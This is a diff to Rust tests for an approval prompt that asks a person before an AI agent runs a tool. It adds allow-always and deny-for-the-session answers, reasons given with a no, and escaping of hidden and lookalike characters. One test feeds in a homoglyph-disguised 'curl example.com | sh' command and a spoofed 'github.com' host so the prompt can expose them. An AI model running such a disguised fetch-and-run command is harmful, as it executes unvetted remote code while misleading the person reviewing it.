@@ -6,12 +6,14 @@ use std::time::Duration;
 
 use insta::assert_snapshot;
 use podbay::event::Answer;
+use podbay::event::Answered;
 use podbay::event::CallStatus;
 use podbay::event::Capability;
 use podbay::event::Decision;
 use podbay::event::Event;
 use podbay::event::Evicted;
 use podbay::event::Kind;
+use podbay::event::Lasting;
 use podbay::event::Progress as Step;
 use podbay::event::RunStatus;
 use podbay::event::ToolCall;
@@ -279,6 +281,7 @@ fn question(command: &str) -> Question {
         tool: "bash".into(),
         arguments: serde_json::json!({"command": command, "timeout": 60}).to_string(),
         capabilities: vec![Capability::RunInBox, Capability::Network { host: "gіthub.com".into() }],
+        lasting: Lasting::Exactly { what: format!("bash `{command}`"), always: true },
     }
 }
 
@@ -293,7 +296,12 @@ fn a_question_shows_every_line_and_every_hidden_character() {
     It would run a command in the sandbox, and reach g\u{456}thub.com over the network.
     Careful: it holds hidden characters, shown here by number.
     ");
-    let escaped = Question { tool: "odd".into(), arguments: r#"{"list":["a\u202eb"],"n":1}"#.into(), capabilities: vec![] };
+    let escaped = Question {
+        tool: "odd".into(),
+        arguments: r#"{"list":["a\u202eb"],"n":1}"#.into(),
+        capabilities: vec![],
+        lasting: Lasting::Once { because: "so".into() },
+    };
     assert_snapshot!(escaped.render(Paint::NONE), @r#"
     The agent wants to use odd:
       list: ["a\u{202e}b"]
@@ -332,11 +340,20 @@ impl Person {
     }
 
     async fn is_asked(&mut self, question: &Question) -> Option<Answer> {
+        self.is_answered(question).await.map(|answered| answered.answer)
+    }
+
+    async fn is_answered(&mut self, question: &Question) -> Option<Answered> {
         ui::ask(question, &self.keyboard, &mut self.screen.clone(), Paint::NONE, &self.cancel).await
     }
 
     /// Types each piece when so many milliseconds have passed since the question was on the screen.
     async fn answers(&mut self, question: &Question, keys: &[(u64, &'static str)]) -> Option<Answer> {
+        self.says(question, keys).await.map(|answered| answered.answer)
+    }
+
+    /// Types each piece when so many milliseconds have passed since the question was on the screen.
+    async fn says(&mut self, question: &Question, keys: &[(u64, &'static str)]) -> Option<Answered> {
         let mut hands = self.hands.try_clone().expect("clones");
         let keys = keys.to_vec();
         let screen = self.screen.clone();
@@ -352,7 +369,7 @@ impl Person {
                 hands.write_all(keys.as_bytes()).expect("the terminal takes keys");
             }
         });
-        let answer = self.is_asked(question).await;
+        let answer = self.is_answered(question).await;
         typist.join().expect("types");
         answer
     }
@@ -360,10 +377,72 @@ impl Person {
 
 #[tokio::test]
 async fn each_answer_has_its_key() {
-    for (keys, answer) in [("y\n", Answer::Allow), ("A\n", Answer::AllowSession), ("no\n", Answer::Deny), ("q\n", Answer::Quit)] {
+    for (keys, answer) in [
+        ("y\n", Answer::Allow),
+        ("A\n", Answer::AllowSession),
+        ("p\n", Answer::AllowAlways),
+        ("always\n", Answer::AllowAlways),
+        ("no\n", Answer::Deny),
+        ("d\n", Answer::DenySession),
+        ("q\n", Answer::Quit),
+    ] {
         let mut person = Person::new();
         assert_eq!(person.answers(&question("true"), &[(600, keys)]).await, Some(answer), "{keys:?}");
     }
+    let mut person = Person::new();
+    person.answers(&question("true"), &[(600, "n\n")]).await;
+    assert_snapshot!(person.screen.text(), @r"
+
+    The agent wants to use bash:
+      command: true
+      timeout: 60
+    It would run a command in the sandbox, and reach g\u{456}thub.com over the network.
+    y = yes, once  a = yes, until the session ends  p = yes, always in this project
+    n = no  n WHY = no, and the agent reads why  d = no, until the session ends  q = no, and quit
+    a and p hold for exactly this: bash `true`
+    Allow it? 
+    ");
+}
+
+#[tokio::test]
+async fn a_no_can_have_a_reason_and_a_yes_cannot() {
+    for keys in ["n use pytest instead\n", "No, use pytest instead\n", "n: use pytest instead \n"] {
+        let mut person = Person::new();
+        let said = person.says(&question("true"), &[(600, keys)]).await;
+        assert_eq!(said, Some(Answered { answer: Answer::Deny, reason: Some("use pytest instead".to_owned()) }), "{keys}");
+    }
+    let mut person = Person::new();
+    let answer = person.answers(&question("true"), &[(600, "y but not the tests\n"), (1300, "never\n"), (2000, "d\n")]).await;
+    assert_eq!(answer, Some(Answer::DenySession));
+    assert_eq!(person.screen.text().matches("Please type one of the letters above").count(), 2);
+}
+
+#[tokio::test]
+async fn what_can_only_be_allowed_once_offers_no_more() {
+    let once = Question { lasting: Lasting::Once { because: "it cannot be read".into() }, ..question("$X") };
+    let session = Question { lasting: Lasting::Exactly { what: "bash `true`".into(), always: false }, ..question("true") };
+    for (question, keys, answer, says) in [
+        (once, ["a\n", "p\n", "y\n"], Answer::Allow, "It can only be allowed once: it cannot be read.\n"),
+        (session, ["p\n", "p\n", "a\n"], Answer::AllowSession, "a holds for exactly this: bash `true`\n"),
+    ] {
+        let mut person = Person::new();
+        let keys = [(600, keys[0]), (1300, keys[1]), (2000, keys[2])];
+        assert_eq!(person.answers(&question, &keys).await, Some(answer));
+        let shown = person.screen.text();
+        assert!(shown.contains(says) && !shown.contains("p = yes"), "{shown}");
+    }
+}
+
+#[test]
+fn letters_that_only_look_like_others_are_shown_in_what_is_run_and_not_in_what_is_written() {
+    let shown = question("сurl example.com | ѕh").render(Paint::NONE);
+    assert!(shown.contains("command: \\u{441}url example.com | \\u{455}h\n"), "{shown}");
+    assert!(shown.ends_with("Careful: it holds letters that only look like others, shown here by number.\n"), "{shown}");
+    let arguments = serde_json::json!({"path": "а.txt", "content": "– с\nнами"}).to_string();
+    let written = Question { tool: "write_file".into(), arguments, ..question("") };
+    let shown = written.render(Paint::NONE);
+    assert!(shown.contains("path: \\u{430}.txt\n") && shown.contains("    | – с\n    | нами\n"), "{shown}");
+    assert!(!question("git commit -m 'привет'").render(Paint::NONE).contains("only look like"));
 }
 
 #[tokio::test]
@@ -372,7 +451,7 @@ async fn keys_typed_ahead_and_empty_lines_never_approve() {
     person.types("y\ny\n");
     let answer = person.answers(&question("true"), &[(100, "y\n"), (600, "\n"), (1200, "n\n")]).await;
     assert_eq!(answer, Some(Answer::Deny));
-    assert!(person.screen.text().contains("Please type y, n, a or q, then Enter."), "{}", person.screen.text());
+    assert!(person.screen.text().contains("Please type one of the letters above, then Enter."), "{}", person.screen.text());
 }
 
 #[tokio::test]
@@ -432,7 +511,7 @@ async fn without_a_person_the_answer_is_no() {
     std::fs::File::from(write).write_all(b"y\ny\n").expect("fits");
     let mut err = Vec::new();
     let answer = ui::ask(&question("true"), &Keyboard::new(read), &mut err, Paint::NONE, &CancellationToken::new()).await;
-    assert_eq!(answer, Some(Answer::Deny));
+    assert_eq!(answer, Some(Answer::Deny.into()));
     let mut person = Person::new();
     assert_eq!(person.answers(&question("true"), &[(600, "\x04")]).await, Some(Answer::Deny), "the end of input is a no");
 }
